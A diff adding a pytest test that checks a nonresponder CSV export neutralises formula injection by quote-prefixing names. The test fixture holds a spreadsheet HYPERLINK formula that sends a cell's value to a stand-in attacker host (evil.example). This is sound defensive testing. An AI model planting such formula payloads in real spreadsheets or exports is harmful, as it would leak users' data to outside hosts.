@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 import pytest
@@ -169,6 +170,21 @@ def test_nonresponder_export_needs_the_organization_to_allow_it(cast: Cast, logi
     exported = client.get(url("nonresponders", wave)).content.decode()
     assert exported.splitlines()[0] == "email,name,unit"
     assert "card1@alpha.example" in exported
+
+
+def test_the_nonresponder_export_writes_a_formula_name_as_text(cast: Cast, login) -> None:
+    """CSV injection: a roster name that is a formula must not become a live formula."""
+    person = cast.person("card2@alpha.example")
+    person.name = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
+    person.save()
+    wave = make_wave(cast)
+    cast.alpha.allow_nonresponder_export = True
+    cast.alpha.save()
+    exported = login(cast.owner).get(url("nonresponders", wave)).content.decode()
+    rows = list(csv.reader(io.StringIO(exported)))
+    names = [row[1] for row in rows[1:]]
+    assert "'" + person.name in names
+    assert not [n for n in names if n.startswith(("=", "+", "-", "@"))]
 
 
 def test_monitoring_shows_counts_but_no_scores_while_open(cast: Cast, login) -> None:
